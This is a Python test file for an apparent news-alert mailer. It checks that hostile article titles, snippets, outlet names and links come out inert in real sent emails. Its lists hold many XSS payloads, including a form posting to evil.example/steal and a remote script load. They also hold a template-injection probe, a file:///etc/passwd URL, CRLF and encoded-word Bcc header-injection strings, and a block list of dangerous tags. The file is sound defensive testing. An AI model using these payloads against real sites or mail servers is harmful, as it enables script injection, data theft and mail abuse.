"""Hostile titles, snippets, outlet names and links, sent for real and inspected at the server.

The payloads were written for this test: script and event-handler injection, attribute breakouts,
dangerous URL schemes, template syntax, and header injection through raw and RFC 2047-encoded
line breaks (CVE-2024-6923).
"""

from __future__ import annotations

import base64
import re
from collections import Counter
from datetime import UTC, datetime, timedelta
from html.parser import HTMLParser
from urllib.parse import urlsplit

import alerts
from tests.smtp_faults import RecordingHandler, smtp_server

NOW = datetime(2026, 11, 25, 6, 5, tzinfo=UTC)
EXPECTED_HEADERS = [
    "From",
    "To",
    "Subject",
    "Date",
    "Message-ID",
    "List-Unsubscribe",
    "Auto-Submitted",
    "MIME-Version",
    "Content-Type",
]

XSS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=http://xss.example/xss.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<body onload=alert(1)>",
    '<iframe src="javascript:alert(1)"></iframe>',
    '<a href="javascript:alert(1)">click</a>',
    '<form action="https://evil.example/steal"><input name=p></form>',
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    "</p><script>alert(1)</script><p>",
    '<div style="background:url(javascript:alert(1))">x</div>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<object data="javascript:alert(1)"></object>',
    '<embed src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="https://evil.example/">',
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<input autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>news</marquee>",
    "<isindex action=javascript:alert(1) type=submit>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<textarea onfocus=alert(1) autofocus>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>script>alert(1)//<</script>/script>",
    '<img """><script>alert(1)</script>">',
    "<img src=`x` onerror=alert(1)>",
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    "{{ 7*7 }} {% raw %}",
    "{{ config.__class__.__init__.__globals__ }}",
    "${7*7} <%= 7*7 %> #{7*7}",
    "<!--<script>alert(1)//-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<x onclick=alert(1)>click me",
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    "javascript:alert(document.cookie)",
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<template><script>alert(1)</script></template>",
    '<a href="vbscript:msgbox(1)">x</a>',
    '<form><button formaction="https://evil.example">x</button></form>',
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    '<a href="&#106;avascript:alert(1)">x</a>',
    "<a\u2028href=javascript:alert(1)>x</a>",
    "<img\x00src=x onerror=alert(1)>",
]
HOSTILE_URLS = [
    "javascript:alert(1)",
    "JAVASCRIPT:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "//evil.example/protocol-relative",
    "ftp://evil.example/file",
    "mailto:someone@example.org",
    'https://ok.example/"><script>alert(1)</script>',
    'http://x.example/" onmouseover="alert(1)',
    "https://evil.example/\r\nBcc: url@evil.example",
    "",
]
HEADER_TITLES = [
    "Breaking\r\nBcc: crlf@evil.example",
    "Line feed\nX-Injected: yes",
    "Controls\vVT\fFF\x85NEL\u2028LS\u2029PS\x00NUL\x1bESC end",
    "=?UTF-8?Q?=0A?=Bcc: qword@evil.example",
    "=?UTF-8?B?" + base64.b64encode(b"\r\nBcc: bword@evil.example").decode() + "?=",
    "Über =?utf-8?q?=0D=0ABcc:_mixed@evil.example?=",
    "=?UTF-8?Q?=3D=3FUTF-8=3FQ=3F=3D0A=3F=3D?=Bcc: nested@evil.example",
    "Title ending in a newline\n",
    "\r\n\r\n<html>body injection",
    "Long " + "x" * 3000 + "\nBcc: long@evil.example " + "y" * 2000,
]


class Audit(HTMLParser):
    """Everything in a received HTML body that could run, submit or load something."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: Counter[str] = Counter()
        self.attributes: list[tuple[str, str]] = []
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags[tag] += 1
        self.attributes += [(name, value or "") for name, value in attrs]

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.handle_starttag(tag, attrs)

    def handle_data(self, data: str) -> None:
        self.text.append(data)


def hostile_archive(world) -> None:
    seen = NOW - timedelta(hours=5)
    for index, payload in enumerate(XSS):
        snippet = f"{XSS[(index + 1) % len(XSS)]} Gaza ceasefire"
        start = snippet.index("Gaza")
        world.add_article(
            seen + timedelta(seconds=index),
            watchlist="XSS",
            title=payload,
            snippet=snippet,
            highlights=[(start, start + 4)],
            source=XSS[(index + 2) % len(XSS)],
            url=HOSTILE_URLS[index % len(HOSTILE_URLS)] if index % 2 else None,
        )
    for index, title in enumerate(HEADER_TITLES):
        world.add_article(
            seen,
            watchlist=f"Header {index}",
            title=title,
            source="Outlet\r\nBcc: outlet@evil.example",
        )


def test_hostile_content_is_inert_after_a_real_send(alerts_world):
    world = alerts_world
    hostile_archive(world)
    handler = RecordingHandler()
    lists = [{"name": "XSS", "recipients": ["reader@example.org"]}] + [
        {"name": f"Header {index}", "recipients": [f"reader{index}@example.org"]}
        for index in range(len(HEADER_TITLES))
    ]
    with smtp_server(handler) as port:
        config = world.config(*lists, smtp={"host": "127.0.0.1", "port": port, "security": "none"})
        report = alerts.send_due(world.db, config, now=NOW)

    assert len(report.sent) == 1 + len(HEADER_TITLES) and report.ok
    intended = {"reader@example.org"} | {
        f"reader{index}@example.org" for index in range(len(HEADER_TITLES))
    }
    assert sorted(handler.rcpt_commands) == sorted(intended)  # no injected RCPT ever issued
    for item in handler.received:
        message = item.message
        assert len(item.rcpt_tos) == 1 and item.rcpt_tos[0] in intended
        assert list(message.keys()) == EXPECTED_HEADERS
        subject = str(message["Subject"])
        assert not re.search(r"[\x00-\x1f\x7f-\x9f\u2028\u2029]", subject)
        raw_headers = item.data.split(b"\r\n\r\n", 1)[0]
        for line in raw_headers.split(b"\r\n"):
            assert line[:1] in (b" ", b"\t") or line.split(b":", 1)[0].decode() in (
                EXPECTED_HEADERS
            )
        for part in message.iter_parts():
            assert not {"Bcc", "Cc", "X-Injected"} & set(part.keys())
        audit_html(message.get_body(("html",)).get_content())
        text = message.get_body(("plain",)).get_content()
        assert "Bcc: crlf" not in text.split("\n", 1)[0]

    xss_message = next(
        item.message for item in handler.received if item.rcpt_tos == ["reader@example.org"]
    )
    audit = audit_html(xss_message.get_body(("html",)).get_content())
    shown = "".join(audit.text)
    # The payloads are shown as text, not dropped: the reader sees what the page said.
    assert "<script>alert(1)</script>" in shown
    assert "{{ 7*7 }} {% raw %}" in shown
    assert "<form action=" in shown


def audit_html(html: str) -> Audit:
    audit = Audit()
    audit.feed(html)
    audit.close()
    dangerous = {
        "script",
        "form",
        "iframe",
        "object",
        "embed",
        "svg",
        "math",
        "img",
        "input",
        "button",
        "textarea",
        "base",
        "link",
        "style",
        "video",
        "source",
        "isindex",
        "details",
        "template",
        "noscript",
        "x",
        "marquee",
        "keygen",
    }
    assert not dangerous & set(audit.tags), audit.tags
    assert re.search(r"<\s*(script|form|iframe|svg|img)\b", html, re.IGNORECASE) is None
    names = {name.lower() for name, _value in audit.attributes}
    assert not [name for name in names if name.startswith("on")]
    assert names <= {"href", "style", "class", "lang", "charset", "name", "content", "dir"}
    for name, value in audit.attributes:
        if name == "href":
            assert urlsplit(value).scheme in ("http", "https", "mailto"), value
            assert not re.search(r"\s", value)
        if name == "style":
            assert not re.search(r"url\(|expression|javascript|@import", value, re.IGNORECASE)
        if name == "content":
            assert "url=" not in value.lower()
    return audit
